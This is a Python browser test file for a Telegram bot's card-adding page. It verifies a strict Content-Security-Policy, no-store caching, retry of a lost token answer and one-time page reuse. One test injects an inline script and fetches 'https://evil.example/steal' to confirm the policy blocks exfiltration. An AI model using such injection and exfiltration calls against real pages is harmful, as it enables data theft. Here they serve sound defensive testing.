"""The card page's headers and its answers from the bot, in headless Chromium (issue 14, items 4 and 5): a strict
Content-Security-Policy that the page works under without a single violation (Telegram's script stubbed, as there
is no internet), no caching, framing only by Telegram's web client; a lost answer of the token endpoint retried by
the page without killing the card; and the bot's JSON answer shown when the chat could not be told."""

from __future__ import annotations

from urllib.parse import urlsplit

from sqlalchemy import select

from bot.sandbox.scenarios import open_card_page, registered
from bot.storage.models import Card
from tests.browser.conftest import open_page

NUMBER = "8600069195406311"


def directives(header: str) -> dict[str, list[str]]:
    parsed = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            parsed[words[0]] = words[1:]
    return parsed


async def bind_on_the_page(page) -> None:
    await page.locator("#number").fill(NUMBER)
    await page.locator("#expiry").fill("0399")
    await page.locator("#continue").click()
    await page.wait_for_selector("body[data-step=code]")
    await page.locator("#code").fill("666666")
    await page.locator("#confirm").click()


async def cards_of(app, user_id: int) -> list[Card]:
    async with app.services.sessionmaker() as session:
        return list(await session.scalars(select(Card).where(Card.user_id == user_id)))


async def test_the_page_works_under_a_strict_csp_and_is_not_cached(payme_app, telegram, payme, browser):
    user = await registered(telegram, 981)
    url = await open_card_page(user)
    opened = await open_page(browser, telegram, user, url)
    page = opened.page

    headers = await opened.response.all_headers()
    policy = directives(headers["content-security-policy"])
    payme_origin = "{0.scheme}://{0.netloc}".format(urlsplit(payme.base_url))
    assert policy == {
        "default-src": ["'none'"],
        "script-src": ["'self'", "https://telegram.org/js/telegram-web-app.js"],
        "style-src": ["'self'"],
        "connect-src": ["'self'", payme_origin],
        "frame-ancestors": ["https://web.telegram.org"],
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
    }
    assert headers["cache-control"] == "no-store"
    assert headers["referrer-policy"] == "no-referrer"  # the page's address carries its one-time session
    assert headers["x-content-type-options"] == "nosniff"
    assert await page.evaluate("window.__telegram.ready")  # Telegram's script ran and the page told it so

    await bind_on_the_page(page)
    await page.wait_for_selector("body[data-step=added]")
    assert await page.locator("#message").inner_text() == (
        "The card UZCARD •6311 is added. You can return to the chat.")
    await user.wait_message("is added")
    assert await opened.csp_violations() == []  # the whole flow ran under the policy

    # The policy is enforced: an injected inline script does not run, and a call to any other host is blocked.
    await page.evaluate("""() => { const s = document.createElement("script");
                                   s.textContent = "window.__injected = true"; document.body.appendChild(s); }""")
    blocked = await page.evaluate("""() => fetch("https://evil.example/steal").then(() => "sent", () => "blocked")""")
    assert await page.evaluate("window.__injected === undefined") and blocked == "blocked"
    violations = await opened.csp_violations()
    assert any(v.startswith("script-src-elem inline") for v in violations)
    assert any(v.startswith("connect-src https://evil.example") for v in violations)

    for asset in ("/card/page.js", "/card/page.css"):
        answer = await page.request.get(urlsplit(url)._replace(path=asset, query="").geturl())
        assert answer.ok and answer.headers["cache-control"] == "no-store"


async def test_a_lost_answer_is_posted_again_and_the_card_stays(payme_app, telegram, payme, browser):
    user = await registered(telegram, 982)
    url = await open_card_page(user)
    opened = await open_page(browser, telegram, user, url)
    page = opened.page
    posts = []

    async def lose_the_first_answer(route):
        posts.append(route.request.post_data)
        if len(posts) == 1:
            await route.fetch()  # the bot gets it and saves the card...
            await route.abort("connectionreset")  # ...and its answer never reaches the page
        else:
            await route.continue_()

    await page.route("**/card/token", lose_the_first_answer)
    await bind_on_the_page(page)
    await page.wait_for_selector("#message.error")
    assert await page.locator("#message").inner_text() == "Payme did not answer. Please try again."
    await user.wait_message("is added")  # the card was saved meanwhile

    await page.locator("#confirm").click()  # the user tries again: the same token to the same session
    await page.wait_for_selector("body[data-step=added]", timeout=10_000)
    assert "UZCARD •6311" in await page.locator("#message").inner_text()
    assert len(posts) == 2 and posts[0] == posts[1]
    [card] = await cards_of(payme_app, user.user_id)
    assert card.active and payme.calls("cards.remove") == []
    assert (await payme_app.services.payme.cards_check(card.provider_card_id)).verify
    assert len(payme.calls("cards.verify")) == 1  # the code is not sent to Payme twice
    assert await opened.csp_violations() == []


async def test_when_the_chat_cannot_be_told_the_page_shows_the_bot_s_answer(payme_app, telegram, payme, browser):
    user = await registered(telegram, 983)
    url = await open_card_page(user)
    opened = await open_page(browser, telegram, user, url)
    telegram.fail_next("sendMessage", "500")  # the chat's "card added" (with the card list) is refused
    await bind_on_the_page(opened.page)
    await opened.page.wait_for_selector("body[data-step=added]", timeout=10_000)
    assert await opened.page.locator("#message").inner_text() == (
        "The card UZCARD •6311 is added. You can return to the chat.")
    assert [card.masked_number for card in await cards_of(payme_app, user.user_id)] == ["860006******6311"]


async def test_a_used_page_opened_again_says_so_and_sends_nothing(payme_app, telegram, payme, browser):
    user = await registered(telegram, 984)
    url = await open_card_page(user)
    first = await open_page(browser, telegram, user, url)
    await bind_on_the_page(first.page)
    await first.page.wait_for_selector("body[data-step=added]")

    again = await open_page(browser, telegram, user, url)
    assert await again.page.locator("#message").inner_text() == (
        "This page has already added a card. To add another card, tap “Add a card” in the bot again.")
    assert await again.page.locator("#card-form").is_hidden()
    assert [u for u, _body in again.seen if u.startswith(payme.base_url)] == []
